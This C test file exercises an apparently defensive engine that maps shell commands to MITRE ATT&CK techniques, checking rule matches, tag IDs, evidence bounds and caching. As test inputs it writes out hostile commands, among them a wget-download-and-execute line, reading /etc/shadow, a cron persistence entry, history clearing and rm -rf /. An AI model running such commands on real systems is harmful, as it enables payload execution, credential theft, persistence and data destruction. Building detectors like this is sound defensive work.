/* The engine as a whole: probes, ids, the worked example, evidence, hostile commands, memory. */
#include "ttp_support.h"

#include <math.h>
#include <stdio.h>

#define HIT_MAX 64

static bool fires(TtpEngine *e, Str command, const char *rule)
{
    const TtpRule *hits[HIT_MAX];
    size_t n = ttp_engine_match_command(e, command, hits, HIT_MAX);

    for (size_t i = 0; i < n; i++)
        if (strcmp(hits[i]->id, rule) == 0)
            return true;
    return false;
}

Test(ttp_engine, probes)
{
    cleanup(arena_freep) Arena *arena = arena_new();
    TtpEngine *e = shipped_engine();
    Str rest = source_text(arena, "tests/samples/ttp_probes.jsonl");
    size_t n = 0, controls = 0;

    while (rest.len) {
        size_t len = (size_t)((const char *)memchr(rest.data, '\n', rest.len) - rest.data);
        cleanup(json_putp) json_object *probe = json_parse((Str){rest.data, len});
        Str command = json_get_str(probe, "command"), expect = json_get_str(probe, "expect");
        cr_assert_not_null(command.data);
        rest = (Str){rest.data + len + 1, rest.len - len - 1};
        n++;
        if (str_eq(expect, STR("control"))) {
            const TtpRule *hits[HIT_MAX];
            controls++;
            cr_assert_eq(ttp_engine_match_command(e, command, hits, HIT_MAX), 0, STR_FMT, STR_ARG(command));
            continue;
        }
        const char *rule = str_cstr(arena, json_get_str(probe, "rule"));
        cr_assert_eq(fires(e, command, rule), !str_eq(expect, STR("must_not")), "%s on " STR_FMT, rule,
                     STR_ARG(command));
    }
    cr_assert_eq(n, 212);
    cr_assert_eq(controls, 9);
    ttp_engine_free(e);
    ttp_engine_free(NULL);
}

Test(ttp_engine, tag_ids_are_the_golden_ones)
{
    cleanup(arena_freep) Arena *arena = arena_new();
    cleanup(json_putp) json_object *root = json_parse(source_text(arena, "tests/samples/ttp_tag_uuid.json"));
    json_object *vectors = json_get_array(root, "vectors");

    cr_assert_eq(json_object_array_length(vectors), 16);
    for (size_t i = 0; i < json_object_array_length(vectors); i++) {
        json_object *v = json_object_array_get_idx(vectors, i);
        int64_t version = 0;
        char text[UUID_TEXT_BYTES];
        cr_assert(json_get_int(v, "rule_version", &version));
        Uuid id = ttp_tag_id(json_get_str(v, "source_kind"), json_get_str(v, "source_id"), json_get_str(v, "rule_id"),
                             version, json_get_str(v, "technique_id"), json_get_str(v, "sub_technique_id"));
        uuid_format(text, &id);
        cr_assert(str_eq_cstr(json_get_str(v, "uuid"), text), "vector %zu", i + 1);
    }
}

/* --- the worked example of the contract --- */

static const struct {
    const char *command;
    struct {
        const char *rule, *tactic, *technique, *sub;
        double confidence;
        const char *uuid;
    } tags[3];
} example[] = {
    {"id", {{"R0019", "TA0007", "T1033", NULL, 0.70, "66e92012-c5c2-5233-9e40-b21ed5cbda4e"}}},
    {"uname -a", {{"R0018", "TA0007", "T1082", NULL, 0.70, "4a67edb1-b567-5ff2-9ea1-631d13b33590"}}},
    {"cat /etc/passwd", {{"R0013", "TA0007", "T1083", NULL, 0.85, "17be633d-04a7-5461-80d3-7a3f97bf70bb"}}},
    {"sudo cat /etc/shadow", {{"R0014", "TA0006", "T1003", "T1003.008", 0.95, "f25463fa-1164-5b3d-952c-4d66b46786bd"}}},
    {"find / -perm -4000 -type f 2>/dev/null",
     {{"R0015", "TA0007", "T1083", NULL, 0.85, "a152e0e4-e6ed-5518-a0d5-cd75a69197f8"},
      {"R0015", "TA0004", "T1548", "T1548.001", 0.95, "80aa7db7-e05d-5dc7-b427-5006aa5950cc"},
      {"R0016", "TA0007", "T1083", NULL, 0.65, "526f0cfe-86fa-5aa9-9fe1-8d842d3cab09"}}},
    {"cd /tmp; wget http://198.51.100.7/x86 -O x; chmod +x x; ./x",
     {{"R0012", "TA0011", "T1105", NULL, 0.85, "33344741-2a33-55cf-b642-ea359acf9b1a"}}},
    {"echo '* * * * * root /tmp/x' > /etc/cron.d/sysupd",
     {{"R0025", "TA0003", "T1053", "T1053.003", 0.90, "384680f2-3514-5b86-8d1d-a31f8d637b01"}}},
    {"ls -la /var/www", {{0}}},
    {"history -c", {{"R0028", "TA0005", "T1070", "T1070.003", 0.90, "aa99d066-d153-581f-9d6b-9f3c55ced2ad"}}},
};

static TtpCommand command_of(Arena *arena, const char *text, size_t index)
{
    return (TtpCommand){.source_id = str_from(arena_printf(arena, "7c1f2a9e4b6d4d0f#%zu", index)),
                        .text = str_from(text),
                        .uid = STR("0"),
                        .user = STR("root"),
                        .src = STR("203.0.113.45"),
                        .pwd = STR("/root"),
                        .observed_at_us = 1778401867000000 + (int64_t)index};
}

Test(ttp_engine, worked_example)
{
    cleanup(arena_freep) Arena *arena = arena_new();
    TtpEngine *e = shipped_engine();

    for (size_t i = 0; i < ARRAY_SIZE(example); i++) {
        TtpCommand command = command_of(arena, example[i].command, i);
        TtpTags tags = {0};
        size_t n = 0;
        ttp_tags_for_command(e, arena, &command, &tags);
        while (n < 3 && example[i].tags[n].rule)
            n++;
        cr_assert_eq(tags.n, n, "%s: %s", example[i].command, tags_text(arena, &tags));
        for (size_t k = 0; k < n; k++) {
            const TtpTag *tag = &tags.items[k];
            char uuid[UUID_TEXT_BYTES];
            uuid_format(uuid, &tag->uuid);
            cr_assert_str_eq(uuid, example[i].tags[k].uuid);
            cr_assert_str_eq(tag->rule->id, example[i].tags[k].rule);
            cr_assert_str_eq(tag->tactic, example[i].tags[k].tactic);
            cr_assert_str_eq(tag->technique, example[i].tags[k].technique);
            cr_assert_str_eq(tag->sub ? tag->sub : "", example[i].tags[k].sub ? example[i].tags[k].sub : "");
            cr_assert_eq(tag->confidence, example[i].tags[k].confidence);
            cr_assert_eq(tag->source_kind, TTP_COMMAND);
            cr_assert_eq(tag->observed_at_us, command.observed_at_us);
            cr_assert(strstr(tag->mitre_url, "https://attack.mitre.org/techniques/T1") == tag->mitre_url);
        }
        if (i == 0)
            cr_assert(str_eq_cstr(tags.items[0].evidence, "{\"command_text\":\"id\",\"uid\":\"0\",\"user\":\"root\","
                                                          "\"src\":\"203.0.113.45\",\"pwd\":\"/root\"}"),
                      STR_FMT, STR_ARG(tags.items[0].evidence));
    }
    ttp_engine_free(e);
}

/* --- evidence --- */

static json_object *evidence_of(TtpEngine *e, Arena *arena, const TtpCommand *command)
{
    TtpTags tags = {0};

    ttp_tags_for_command(e, arena, command, &tags);
    cr_assert_geq(tags.n, 1);
    cr_assert_leq(tags.items[0].evidence.len, LIMIT_EVIDENCE_BYTES);
    json_object *evidence = json_parse(tags.items[0].evidence);
    cr_assert_not_null(evidence);
    return evidence;
}

static bool is_truncated(json_object *evidence)
{
    bool truncated = false;
    json_get_bool(evidence, "truncated", &truncated);
    return truncated;
}

Test(ttp_engine, evidence_holds_what_is_known_only)
{
    cleanup(arena_freep) Arena *arena = arena_new();
    TtpEngine *e = shipped_engine();
    TtpCommand command = {.source_id = STR("s"), .text = STR("id"), .user = STR(""), .truncated = true};
    TtpTags tags = {0};

    ttp_tags_for_command(e, arena, &command, &tags);
    cr_assert(str_eq_cstr(tags.items[0].evidence, "{\"command_text\":\"id\",\"user\":\"\",\"truncated\":true}"),
              STR_FMT, STR_ARG(tags.items[0].evidence));
    cr_assert_eq(ttp_engine_stats(e).evidence_truncated, 1);
    ttp_engine_free(e);
}

Test(ttp_engine, evidence_stays_within_its_bounds)
{
    cleanup(arena_freep) Arena *arena = arena_new();
    TtpEngine *e = shipped_engine();
    /* Text that grows when it is written: nothing, escapes to six bytes, repair to three, two-byte characters. */
    static const char *const fillers[] = {"a", "\x01", "\xff", "\xc3\xa9", "\"", ""};

    for (size_t i = 0; i < ARRAY_SIZE(fillers); i++) {
        cleanup(buf_free) Buf text = {0};
        size_t n = fillers[i][0] ? strlen(fillers[i]) : 1; /* the last filler is a NUL byte */
        buf_add(&text, "id ");
        while (text.len + n <= LIMIT_COMMAND_BYTES)
            buf_append(&text, fillers[i], n);
        TtpCommand command = {.source_id = STR("s"),
                              .text = buf_str(&text),
                              .pwd = buf_str(&text),
                              .user = buf_str(&text),
                              .src = STR("192.0.2.1")};
        cleanup(json_putp) json_object *evidence = evidence_of(e, arena, &command);
        Str kept = json_get_str(evidence, "command_text");
        cr_assert(is_truncated(evidence), "filler %zu", i);
        cr_assert(kept.len > 512 && kept.len <= LIMIT_EVIDENCE_STRING_BYTES, "filler %zu: %zu", i, kept.len);
        cr_assert(str_starts(kept, "id "));
        cr_assert(str_eq(text_sanitize(arena, kept), kept), "cut at a character, without NUL");
        cr_assert(str_eq_cstr(json_get_str(evidence, "src"), "192.0.2.1"));
    }
    ttp_engine_free(e);
}

/* --- hostile commands --- */

Test(ttp_engine, no_byte_hides_a_command)
{
    TtpEngine *e = shipped_engine();
    static char big[LIMIT_COMMAND_BYTES * 4];

    cr_assert(fires(e, STR("\0\0; uname -a"), "R0018"));
    cr_assert(fires(e, STR("wget \xff\xfe http://x/\xc3"), "R0012"));
    cr_assert(fires(e, STR("cat \0 /etc/passwd"), "R0013"));
    cr_assert_not(fires(e, STR(""), "R0019"));
    cr_assert_not(fires(e, (Str){0}, "R0019"));

    memset(big, 'A', sizeof(big));
    memcpy(big + LIMIT_COMMAND_BYTES - 20, ";uname -a ", 10);
    cr_assert(fires(e, (Str){big, LIMIT_COMMAND_BYTES}, "R0018"), "the end of the longest command counts");
    memset(big, 'A', sizeof(big));
    memcpy(big + LIMIT_COMMAND_BYTES + 20, ";uname -a ", 10);
    cr_assert_not(fires(e, (Str){big, sizeof(big)}, "R0018"), "what is behind the limit does not");
    ttp_engine_free(e);
}

Test(ttp_engine, start_of_text_is_not_start_of_line)
{
    char *error = NULL;

    scratch_file("R1.yaml",
                 STR("rule_id: R1\nrule_version: 1\nname: n\napplies_to: [command]\nmatch:\n"
                     "  pattern: '^id'\nemits:\n  - {tactic: TA0007, technique_id: T1033, confidence: 0.5}\n"));
    TtpEngine *e = scratch_engine(NULL, &error);
    cr_assert_not_null(e, "%s", error);
    cr_assert(fires(e, STR("id"), "R1"));
    cr_assert_not(fires(e, STR("ls\nid"), "R1"));
    ttp_engine_free(e);
}

/* --- memory, state, other kinds --- */

Test(ttp_engine, memory_answers_like_the_first_time)
{
    TtpEngine *e = shipped_engine();
    const TtpRule *first[HIT_MAX], *again[HIT_MAX];
    Str command = STR("uname -a; wget http://x/y");

    size_t n = ttp_engine_match_command(e, command, first, HIT_MAX);
    cr_assert_eq(n, 2);
    cr_assert_eq(ttp_engine_match_command(e, command, again, HIT_MAX), n);
    cr_assert_arr_eq(first, again, n * sizeof(*first));
    cr_assert_eq(ttp_engine_match_command(e, command, again, 1), 1, "no more than there is room for");
    cr_assert_eq(ttp_engine_stats(e).commands, 3);
    cr_assert_eq(ttp_engine_stats(e).memo_hits, 2);
    cr_assert_eq(ttp_engine_stats(e).memo_entries, 1);
    ttp_engine_free(e);
}

Test(ttp_engine, memory_is_bounded)
{
    TtpEngine *e = shipped_engine();
    const TtpRule *hits[HIT_MAX];

    for (size_t i = 0; i < 40000; i++) {
        char text[600];
        int n = snprintf(text, sizeof(text), "echo %zu %*s", i, (int)(i % 500), "x");
        ttp_engine_match_command(e, (Str){text, (size_t)n}, hits, HIT_MAX);
    }
    cr_assert_leq(ttp_engine_stats(e).memo_entries, LIMIT_MEMO_COMMANDS);
    cr_assert_leq(ttp_engine_stats(e).memo_bytes, LIMIT_MEMO_BYTES);
    cr_assert_gt(ttp_engine_stats(e).memo_entries, 1000);
    ttp_engine_free(e);
}

Test(ttp_engine, operators_disable_and_limit_rules)
{
    cleanup(arena_freep) Arena *arena = arena_new();
    TtpEngine *e = shipped_engine();
    TtpCommand command = {.source_id = STR("s"), .text = STR("id")};
    TtpTags tags = {0};

    cr_assert(fires(e, STR("id"), "R0019"));
    cr_assert_eq(ttp_engine_set_state(e, "R0019", false, 1), 0);
    cr_assert_not(fires(e, STR("id"), "R0019"), "also when the command is remembered");
    cr_assert_eq(ttp_engine_set_state(e, "R0019", true, 0.4), 0);
    ttp_tags_for_command(e, arena, &command, &tags);
    cr_assert(tags.n == 1 && tags.items[0].confidence == 0.4);
    cr_assert_eq(ttp_engine_set_state(e, "R0019", true, 0.9), 0);
    ttp_tags_for_command(e, arena, &command, &tags);
    cr_assert(tags.n == 2 && tags.items[1].confidence == 0.7, "never upward");
    cr_assert_eq(ttp_engine_set_state(e, "R0019", true, 0.29), 0);
    ttp_tags_for_command(e, arena, &command, &tags);
    cr_assert(tags.n == 2 && ttp_engine_stats(e).suppressed == 1);
    cr_assert_eq(ttp_engine_set_state(e, "R9999", false, 1), -ENOENT);
    ttp_engine_free(e);
}

Test(ttp_engine, rules_look_at_their_own_field_and_kind)
{
    char *error = NULL;
    const TtpRule *hits[HIT_MAX];

    scratch_file("R1.yaml", STR("rule_id: R1\nrule_version: 1\nname: n\napplies_to: [http_request]\nmatch:\n"
                                "  pattern: sqlmap\n  field: user_agent\n"
                                "emits:\n  - {tactic: TA0001, technique_id: T1190, confidence: 0.5}\n"));
    scratch_file("R2.yaml", STR("rule_id: R2\nrule_version: 1\nname: n\napplies_to: [http_request, command]\nmatch:\n"
                                "  pattern: sqlmap\n"
                                "emits:\n  - {tactic: TA0001, technique_id: T1190, confidence: 0.5}\n"));
    TtpEngine *e = scratch_engine(NULL, &error);
    cr_assert_not_null(e, "%s", error);
    cr_assert_eq(ttp_engine_match_field(e, TTP_HTTP_REQUEST, "user_agent", STR("sqlmap/1"), hits, HIT_MAX), 1);
    cr_assert_str_eq(hits[0]->id, "R1");
    cr_assert_eq(ttp_engine_match_field(e, TTP_HTTP_REQUEST, "raw_url", STR("sqlmap/1"), hits, HIT_MAX), 1);
    cr_assert_str_eq(hits[0]->id, "R2");
    cr_assert_not(fires(e, STR("sqlmap"), "R1"));
    cr_assert(fires(e, STR("sqlmap"), "R2"));
    cr_assert_eq(ttp_engine_match_field(e, TTP_EMAIL, "subject", STR("sqlmap"), hits, HIT_MAX), 0);
    ttp_engine_free(e);
}

Test(ttp_engine, patterns_beyond_hyperscan_work_in_rules)
{
    char *error = NULL;

    scratch_file("R1.yaml", STR("rule_id: R1\nrule_version: 1\nname: n\napplies_to: [command]\nmatch:\n"
                                "  patterns: ['rm(?! -i) ', 'shred']\n"
                                "emits:\n  - {tactic: TA0040, technique_id: T1485, confidence: 0.5}\n"));
    TtpEngine *e = scratch_engine(NULL, &error);
    cr_assert_not_null(e, "%s", error);
    cr_assert(fires(e, STR("rm -rf /"), "R1") && fires(e, STR("shred x"), "R1"));
    cr_assert_not(fires(e, STR("rm -i x"), "R1"));
    cr_assert_eq(ttp_engine_stats(e).patterns_confirmed, 1);
    cr_assert_eq(ttp_engine_stats(e).patterns, 2);
    ttp_engine_free(e);
}

Test(ttp_engine, loads_twice_through_the_cache)
{
    char cache[1100], *error = NULL;

    snprintf(cache, sizeof(cache), "%s/cache", scratch_folder());
    for (int i = 0; i < 2; i++) {
        TtpEngine *e = NULL;
        cr_assert_eq(ttp_engine_load(source_path("workers/ttp/rules"),
                                     source_path("workers/ttp/attack/enterprise-attack.json"), cache, &e, &error),
                     0, "%s", error);
        cr_assert_eq(ttp_engine_stats(e).pack_from_cache, i == 1);
        cr_assert_eq(ttp_engine_stats(e).rules, 25);
        cr_assert(fires(e, STR("whoami"), "R0019"));
        ttp_engine_free(e);
    }
}

Test(ttp_engine, says_what_it_cannot_load)
{
    TtpEngine *e = NULL;
    char *error = NULL;

    cr_assert_eq(ttp_engine_load(source_path("workers/ttp/rules"), "/nonexistent", NULL, &e, &error), -ENOENT);
    cr_assert_not_null(strstr(error, "/nonexistent: cannot read the ATT&CK catalogue"), "%s", error);
    free(error);
    cr_assert_eq(
        ttp_engine_load("/nonexistent", source_path("workers/ttp/attack/enterprise-attack.json"), NULL, &e, &error),
        -EINVAL);
    cr_assert_not_null(strstr(error, "no rule in this path"), "%s", error);
    free(error);
    cr_assert_null(e);
}
